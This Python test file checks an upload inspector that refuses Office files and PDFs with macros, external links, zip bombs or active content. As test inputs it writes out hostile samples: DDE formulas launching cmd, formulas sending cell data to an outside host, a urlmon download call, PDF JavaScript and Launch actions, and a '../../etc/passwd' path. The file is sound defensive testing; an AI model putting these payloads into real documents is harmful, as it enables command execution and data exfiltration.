"""Files from outside: known by their content, refused with what to do when they run, hide, reach out or burst."""

from __future__ import annotations

import io
import socket
import struct
import threading
import zipfile
import zlib
from collections.abc import Iterator

import openpyxl
import pytest
import xlsxwriter
from PIL import Image
from pytest_django import Settings
from weasyprint import HTML

from baohou.core.errors import Refused
from baohou.kernel.papers.inspecting import ATTACHED, PICTURES, TABLES, Kind, inspect, zipped

MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def look(content: bytes, name: str = "表.xlsx", wanted: frozenset[Kind] = ATTACHED) -> Kind:
    return inspect(io.BytesIO(content), name=name, wanted=wanted)


def refusal(content: bytes, name: str = "表.xlsx", wanted: frozenset[Kind] = ATTACHED) -> str:
    with pytest.raises(Refused) as refused:
        look(content, name, wanted)
    assert name in refused.value.message
    return refused.value.code


def workbook() -> bytes:
    out = io.BytesIO()
    book = openpyxl.Workbook()
    book.active["A1"] = "东方钢铁"
    book.save(out)
    return out.getvalue()


def archive(
    *parts: tuple[str, str | bytes], main: str = MAIN, types: str = "", packed: int = zipfile.ZIP_DEFLATED
) -> bytes:
    """An Office file with its list of content types and these parts."""
    out = io.BytesIO()
    listed = f'<Types><Override PartName="/xl/workbook.xml" ContentType="{main}"/>{types}</Types>'
    with zipfile.ZipFile(out, "w", packed) as book:
        book.writestr("[Content_Types].xml", listed)
        for name, content in parts:
            book.writestr(name, content)
    return out.getvalue()


def picture(kind: str = "PNG", size: tuple[int, int] = (8, 8)) -> bytes:
    out = io.BytesIO()
    Image.new("1" if kind == "PNG" else "RGB", size).save(out, kind)
    return out.getvalue()


def pdf(html: str = "<p>东方钢铁") -> bytes:
    return bytes(HTML(string=html).write_pdf())


def test_it_knows_each_kind_by_its_content_whatever_its_name_says() -> None:
    assert look(workbook(), "照片.jpg") is Kind.XLSX
    assert look(archive(main=WORD), "x.pdf") is Kind.DOCX
    assert look(pdf(), "y.docx") is Kind.PDF
    assert [look(picture(kind), "z.txt") for kind in ("PNG", "JPEG", "WEBP")] == [Kind.PNG, Kind.JPEG, Kind.WEBP]
    assert look("项目编号,金额\n甲,1\n".encode("gb18030"), "台账.csv", TABLES) is Kind.CSV
    assert look("项目编号,金额\n".encode("utf-16"), "台账.csv", TABLES) is Kind.CSV


def test_what_we_write_ourselves_may_be_sent_back() -> None:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        page = book.add_worksheet()
        page.write_string(0, 0, "=1+1")
        page.write_comment(0, 0, "批注")
        page.write_url(1, 0, "https://www.gov.cn")
    assert look(out.getvalue(), wanted=TABLES) is Kind.XLSX


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (archive(("xl/vbaProject.bin", b"x")), "papers.file.macros"),
        (archive(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "papers.file.macros"),
        (archive(("xl/macrosheets/sheet1.xml", "<m/>")), "papers.file.macros"),
        (
            archive(types='<Default Extension="x" ContentType="application/vnd.ms-office.vbaProject"/>'),
            "papers.file.macros",
        ),
        (archive(("xl/activeX/activeX1.xml", "<a/>")), "papers.file.controls"),
        (archive(("xl/embeddings/oleObject1.bin", b"x")), "papers.file.objects"),
        (archive(("xl/embeddings/另一个.xlsx", workbook())), "papers.file.objects"),
        (archive(("word/afchunk.htm", "<script>"), main=WORD), "papers.file.objects"),
        (archive(("xl/externalLinks/externalLink1.xml", "<e/>")), "papers.file.links"),
        (archive(("xl/connections.xml", "<c/>")), "papers.file.links"),
    ],
)
def test_it_refuses_what_runs_hides_or_reaches_out(content: bytes, code: str) -> None:
    assert refusal(content) == code


def _with_formula(formula: str) -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        page = book.add_worksheet("表")
        page.write_number("B1", 1)
        page.write_formula("A1", formula, None, 1)
    return out.getvalue()


@pytest.mark.parametrize(
    "formula",
    [
        '=_xlfn.WEBSERVICE("https://x.example/?"&B1)',
        '=hyperlink("https://x.example/"&B1,"点")',
        "=cmd|'/c calc'!A0",
        "=IF(B1>0,DDE(B1,B1,B1),0)",
        '=RTD("prog",,"x")',
        '=_xlfn.IMAGE("https://x.example/a.png")',
        "='[别的.xlsx]表'!A1",
        "='file:///C:/a/[b.xlsx]S'!A1",
        "='\\\\host\\share\\[b.xlsx]S'!A1",
        '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)',
    ],
)
def test_an_attached_workbook_with_a_formula_that_reaches_out_is_refused(formula: str) -> None:
    """Also as a table attached to a visit or an appeal, which others open."""
    assert refusal(_with_formula(formula)) == "papers.file.formulas"


@pytest.mark.parametrize(
    "formula",
    [
        '=SUM(B1:B9)*1.13&" 元"',
        '=IF(B1="WEBSERVICE(x)|y","[a]b!",VLOOKUP(B1,表!A1:C9,2,0))',
        "='表'!B1",
        "=SUM(表1[金额])",
        "=表1[金额]-表!B1",
        "=SUM(表1[金额] 表!A1:B2)",
        "=表1[[#This Row],[金额]]*2",
        "=RECALL(1)+MYCALL(2)",
    ],
)
def test_an_attached_workbook_may_reckon(formula: str) -> None:
    assert look(_with_formula(formula)) is Kind.XLSX


def test_names_and_conditions_and_odd_spellings_are_looked_at_too() -> None:
    """A formula written with character references, under a prefix, in UTF-16, in another folder; a table is only read."""
    told = '<x:worksheet xmlns:x="a"><x:f>WEBS&#69;RVICE(A1)</x:f></x:worksheet>'
    assert refusal(archive(("other/part.bin.xml", told))) == "papers.file.formulas"
    wide = '<?xml version="1.0" encoding="UTF-16"?><w><f>WEB<!-- -->SERVICE(A1)</f></w>'.encode("utf-16")
    assert refusal(archive(("xl/worksheets/sheet1.xml", wide))) == "papers.file.formulas"
    named = "<workbook><definedNames><definedName name='a'>cmd|'/c calc'!A0</definedName></definedNames></workbook>"
    assert refusal(archive(("xl/workbook.xml", named))) == "papers.file.formulas"
    checked = '<w><dataValidation><formula1>WEBSERVICE("x")</formula1></dataValidation></w>'
    assert refusal(archive(("xl/worksheets/sheet1.xml", checked))) == "papers.file.formulas"
    assert look(_with_formula("=[1]表!A1"), wanted=TABLES) is Kind.XLSX


def test_a_template_fetched_from_elsewhere_is_refused_and_a_hyperlink_is_not() -> None:
    """attachedTemplate is how a document without macros brings one in when it is opened."""

    def related(kind: str) -> bytes:
        tag = f'<Relationship Id="r1" Type="{RELATION}{kind}" Target="https://x.example/a" TargetMode="External"/>'
        return archive(("word/_rels/settings.xml.rels", f"<Relationships>{tag}</Relationships>"), main=WORD)

    assert refusal(related("attachedTemplate"), "合同.docx") == "papers.file.links"
    assert look(related("hyperlink"), "合同.docx") is Kind.DOCX


def test_a_field_that_starts_a_program_is_refused_also_in_pieces() -> None:
    told = "<w:instrText>DDEA</w:instrText><w:instrText>UTO c:\\\\cmd.exe</w:instrText>"
    assert refusal(archive(("word/document.xml", told), main=WORD), "合同.docx") == "papers.file.links"


def test_it_refuses_a_workbook_with_a_password_or_of_the_old_format() -> None:
    assert refusal(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600) == "papers.file.old_or_locked"
    locked = bytearray(archive(("a.xml", "x")))
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := locked.find(mark, at + 1)) >= 0:
            locked[at + flags] |= 1
    assert refusal(bytes(locked)) == "papers.file.locked"


def test_it_refuses_archives_that_are_no_workbook_damaged_or_define_entities() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as book:
        book.writestr("程序.exe", b"MZ")
    assert refusal(out.getvalue()) == "papers.file.type"
    assert refusal(workbook()[:-300]) == "papers.file.broken"
    assert refusal(archive(("../../etc/passwd", "x"))) == "papers.file.broken"
    bomb = archive(("_rels/.rels", '<!DOCTYPE r [<!ENTITY a "aaaa">]><Relationships>&a;</Relationships>'))
    assert refusal(bomb) == "papers.file.broken"


def test_it_refuses_archives_that_burst() -> None:
    """Too many parts; 64 MB of nothing in 64 KB; a size that is a lie; parts that share their bytes."""
    assert refusal(archive(*[(f"xl/{n}.xml", "") for n in range(zipped.MOST_PARTS)])) == "papers.file.bomb"
    assert refusal(archive(("xl/a.xml", b"\0" * (64 << 20)))) == "papers.file.bomb"
    lying = archive(("xl/a.xml", b"0123456789" * 1000))
    told, real = struct.pack("<L", 10_000), struct.pack("<L", 10)
    crc = struct.pack("<L", zlib.crc32(b"0123456789" * 1000)), struct.pack("<L", zlib.crc32(b"0123456789"))
    assert refusal(lying.replace(told, real).replace(*crc)) == "papers.file.bomb"


def test_parts_that_share_their_bytes_are_refused() -> None:
    whole = bytearray(archive(("xl/a.xml", "甲" * 100), ("xl/b.xml", "乙" * 100)))
    listed = [n for n in range(len(whole)) if whole.startswith(b"PK\x01\x02", n)]
    whole[listed[2] + 42 : listed[2] + 46] = whole[listed[1] + 42 : listed[1] + 46]
    assert refusal(bytes(whole)) in ("papers.file.bomb", "papers.file.broken")


def _with(pdf_: bytes, told: bytes) -> bytes:
    return pdf_.replace(b"/Type /Catalog", b"/Type /Catalog " + told)


@pytest.mark.parametrize(
    "told",
    [
        b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
        b"/OpenAction << /S /J#61vaScript /J#53 (x) >>",
        b"/OpenAction << /S /Launch /F (cmd.exe) >>",
        b"/Names << /EmbeddedFiles 9 0 R >>",
        b"/AcroForm << /XFA 9 0 R >>",
    ],
)
def test_it_refuses_a_pdf_that_runs_or_carries_something(told: bytes) -> None:
    plain = bytes(HTML(string="<p>x").write_pdf(uncompressed_pdf=True))
    assert b"/Type /Catalog" in plain
    assert look(plain, "a.pdf") is Kind.PDF
    assert refusal(_with(plain, told), "a.pdf") == "papers.file.active_pdf"


def test_a_script_inside_packed_objects_is_found() -> None:
    packed = zlib.compress(b"1 0 << /S /JavaScript /JS (x) >>")
    told = b"%PDF-1.7\n5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n" + packed
    assert refusal(told + b"\nendstream endobj\nstartxref\n0\n%%EOF", "a.pdf") == "papers.file.active_pdf"


def test_words_that_stand_in_a_page_by_chance_are_no_script() -> None:
    assert look(pdf("<p>/JavaScript /JS /Launch"), "a.pdf") is Kind.PDF


def test_it_refuses_a_pdf_that_was_cut_off() -> None:
    assert refusal(pdf()[:400], "a.pdf") == "papers.file.broken_pdf"


def test_it_refuses_pictures_of_absurd_sizes() -> None:
    """10,000 x 10,000 points are 12 KB of PNG and 300 MB of memory."""
    assert refusal(picture(size=(10_000, 10_000)), "大.png") == "papers.file.pixels"
    assert refusal(picture(size=(30_000, 10)), "长.png") == "papers.file.pixels"
    assert refusal(picture()[:40], "断.png") == "papers.file.type"
    assert refusal(workbook(), "签名.png", PICTURES) == "papers.file.type"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "papers.file.empty"),
        (b"<html><table><tr><td>1", "papers.file.web_page"),
        ("项目编号,金额\n".encode("utf-16-le"), "papers.file.encoding"),
        ("项目编号,金额\n".encode("utf-32"), "papers.file.encoding"),
        (b"MZ\x90\x01\x02\x03", "papers.file.type"),
    ],
)
def test_it_refuses_tables_that_are_no_text(content: bytes, code: str) -> None:
    assert refusal(content, "台账.csv", TABLES) == code


def test_each_kind_has_its_own_size(settings: Settings) -> None:
    settings.LARGEST_MB = {"picture": 1, "pdf": 3, "office": 2, "table": 4}
    assert refusal(b"%PDF-1.7" + b"x" * (3 << 20) + b"startxref %%EOF", "大.pdf") == "papers.file.too_large"
    assert look(b"%PDF-1.7" + b"x" * (2 << 20) + b"startxref %%EOF", "中.pdf") is Kind.PDF
    assert refusal(picture() + b"x" * (1 << 20), "大.png") == "papers.file.too_large"
    assert refusal(b"x" * (5 << 20), "大.csv", TABLES) == "papers.file.too_large"
    assert look(b"x" * (3 << 20), "中.csv", TABLES) is Kind.CSV


class FakeClamd:
    """A scanner that speaks INSTREAM, and finds a virus in files with EICAR in them."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.address = f"127.0.0.1:{self.socket.getsockname()[1]}"
        self.asked: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                caller, _ = self.socket.accept()
            except OSError:
                return
            with caller, caller.makefile("rb") as told:
                assert told.read(10) == b"zINSTREAM\0"
                content = b""
                while size := struct.unpack("!L", told.read(4))[0]:
                    content += told.read(size)
                self.asked.append(content)
                caller.sendall(b"stream: Eicar-Signature FOUND\0" if b"EICAR" in content else b"stream: OK\0")


@pytest.fixture
def clamd(settings: Settings) -> Iterator[FakeClamd]:
    scanner = FakeClamd()
    settings.CLAMD, settings.CLAMD_SECONDS = scanner.address, 5
    yield scanner
    scanner.socket.close()


def test_a_scanner_sees_the_whole_file_and_its_finding_is_told(clamd: FakeClamd) -> None:
    clean = picture(size=(900, 900)) + b"\0" * 200_000
    assert look(clean, "大门.png") is Kind.PNG
    assert clamd.asked == [clean]
    assert refusal(picture() + b"EICAR", "大门.png") == "papers.file.virus"


def test_nothing_is_taken_while_the_scanner_is_away(clamd: FakeClamd, settings: Settings) -> None:
    settings.CLAMD = "/nowhere/clamd.ctl"
    assert refusal(picture(), "大门.png") == "papers.file.not_scanned"
